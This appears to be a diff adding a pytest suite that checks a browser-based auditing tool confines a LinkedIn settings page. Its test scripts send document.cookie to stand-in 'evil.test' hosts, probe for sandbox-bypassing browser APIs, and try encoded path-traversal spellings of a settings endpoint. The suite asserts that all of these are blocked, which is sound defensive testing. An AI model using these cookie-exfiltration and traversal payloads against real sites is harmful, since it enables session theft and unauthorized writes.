@@ -1,0 +1,150 @@
+"""Ways around the network rules that somebody found who was asked to: closed, and kept closed."""
+
+import pytest
+from hostile import API, SETTING, audited, page, reports, tries
+from traces import own_folder, program_in
+
+from auditor.demo import Answer, Scene
+from auditor.network import NetworkRules
+from auditor.settings import ORIGIN
+
+REDIRECTED = """
+fetch("/leads-to-a-write", {method: "POST", mode: "no-cors", body: "x"}).catch(() => 0);
+fetch("/leads-away", {mode: "no-cors"}).catch(() => 0);
+"""
+WAYS = ["SharedWorker", "RTCPeerConnection", "WebTransport", "WebSocketStream", "PaymentRequest"]
+TAKEN = f"""
+fetch("/ran?" + {WAYS}.map((way) => typeof globalThis[way]) + typeof navigator.credentials);
+"""
+ASKS = "fetch('https://{tag}.evil.test/?' + document.cookie, {{mode: 'no-cors'}}).catch(() => 0);"
+
+
+def elsewhere(asked):
+    """What hostile pages of LinkedIn's hosts find."""
+    if asked.path == "/leads-away":
+        return Answer(status=302, location="https://redirect.evil.test/")
+    if asked.path == "/leads-to-a-write":
+        return Answer(status=307, location=API)
+    if asked.path == "/process-of-its-own":
+        return Answer(
+            f"<script>{tries('own')}{REDIRECTED}</script>",
+            headers=(("origin-agent-cluster", "?1"),),
+        )
+    if asked.path == "/data?late":
+        return Answer("{}", delay=2)
+    if asked.path.startswith(("/ran?", "/plain")):
+        return Answer("")
+    return Answer(status=204) if asked.path.startswith("/uas/login?") else None
+
+
+def assert_kept(server, done):
+    """Nobody but LinkedIn was asked, and nothing was written."""
+    assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
+    assert [] == [asked for asked in server.seen if API.endswith(asked.path) and asked.body]
+    assert server.imitation.values[SETTING.key] is True
+    assert "on" == done.result["state"]
+
+
+@pytest.mark.parametrize("host", ["media.linkedin.com", "static.licdn.com"])
+def test_no_page_of_another_origin_is_framed(serve, host):
+    """A framed page that would get a process of its own, its redirects unseen, is refused."""
+    html = page(more=f'<iframe src="https://{host}/process-of-its-own"></iframe>')
+    server, done, _ = audited(serve, html, elsewhere, headers=(("origin-agent-cluster", "?0"),))
+    assert_kept(server, done)
+    assert set() == reports(server)
+
+
+@pytest.mark.parametrize("path", ["/plain", "/uas/login", "/checkpoint/challenge", SETTING.path])
+def test_a_framed_page_keeps_no_way_around(serve, path):
+    """In a frame of LinkedIn's, loaded twice, what no rule sees is missing, or there is no page."""
+    script = f"""
+    const frame = document.querySelector("iframe");
+    frame.onload = () => {{
+      frame.onload = () => {{ try {{ frame.contentWindow.eval({TAKEN!r}); }} catch {{ }} }};
+      frame.src = "{path}";
+    }};
+    frame.src = "/plain?1";
+    """
+    server, done, _ = audited(serve, page(script, "<iframe></iframe>"), elsewhere)
+    assert_kept(server, done)
+    assert reports(server) <= {",".join(["undefined"] * len(WAYS)) + "undefined"}
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "setTimeout(() => history.pushState(0, '', '/uas/login'), 300);",
+        "setTimeout(() => location.href = '/uas/login?x', 300);",
+        "location.href = '/uas/login?x';",
+    ],
+    ids=["an address of its own making", "a page that does not come", "at once"],
+)
+def test_only_a_page_of_signing_in_that_has_come_opens_the_network(serve, script):
+    """Neither an address that the page gives itself nor one that it asks for lets it out."""
+    back = f"setTimeout(() => history.replaceState(0, '', '{SETTING.path}'), 1300);"
+    after = f"setTimeout(() => {{ {ASKS.format(tag='after')} }}, 800);"
+    server, done, _ = audited(serve, page(script + after + back), elsewhere)
+    assert_kept(server, done)
+
+
+def test_the_settings_page_cannot_lead_the_tab_away(serve):
+    """A settings page that goes to another site, with what it knows, does not get there."""
+    script = "location.href = 'https://away.evil.test/?' + document.cookie;"
+    server, _, _ = audited(serve, page(script), elsewhere)
+    assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
+
+
+def test_ways_that_ask_past_the_rules_are_gone(serve):
+    """The settings page has none of them, and its workers no stream of sockets either."""
+    worker = "fetch('/ran?' + typeof WebSocketStream)"
+    script = TAKEN + f"new Worker(URL.createObjectURL(new Blob([`{worker}`])));"
+    script = script.replace("'/ran?'", f"'{ORIGIN}/ran?'")
+    server, done, _ = audited(serve, page(script), elsewhere)
+    assert_kept(server, done)
+    assert {"undefined", ",".join(["undefined"] * len(WAYS)) + "undefined"} == reports(server)
+
+
+def test_a_window_opened_while_signing_in_is_closed_after_it(serve):
+    """What a sign-in page opened asks nobody any more once the setting's page is there."""
+    popup = f"<script>setInterval(() => {{ {ASKS.format(tag='popup')} }}, 100)</script>"
+    login = (
+        "<!doctype html><html lang=en><main>Sign in</main><script>open('/popup');"
+        "setTimeout(() => location.href = '/checkpoint/lg/login-submit', 900)</script>"
+    )
+    since = []
+
+    def override(asked):
+        if asked.host == "popup.evil.test" and since:
+            since.append("asked")
+        if asked.path == SETTING.path and "li_at" in asked.cookie:
+            since.append("there")
+        found = {"/popup": Answer(popup), "/data?late": Answer("{}", delay=2)}
+        if asked.path.startswith("/uas/login"):
+            return Answer(login)
+        return found.get(asked.path) or (Answer("") if "evil" in asked.host else None)
+
+    server = serve(Scene("x", value="off"), override)
+    with own_folder() as folder:
+        done = program_in(folder, "audit", "--headless", "--browser", server.browser, "--json", "-")
+    assert "off" == done.result["state"]
+    assert "popup.evil.test" in {asked.host for asked in server.seen}, "it was there before"
+    assert since.count("asked") <= 2, "what was under way when the page came"
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/%6dysettings-api/x",
+        "/%256dysettings-api/x",
+        "//mysettings-api/x",
+        "/mysettings-api;v=1/x",
+        "/MYSETTINGS-API/x",
+        "/mysettings-api%2Fx",
+        "/x/..%2fmysettings-api/x",
+        "/x/%2e%2e/psettings/x",
+        "/./mypreferences/x",
+    ],
+)
+def test_a_settings_path_is_known_however_it_is_written(path):
+    """A write is refused whatever spelling of the path the page uses."""
+    assert not NetworkRules().allows("PUT", ORIGIN + path)
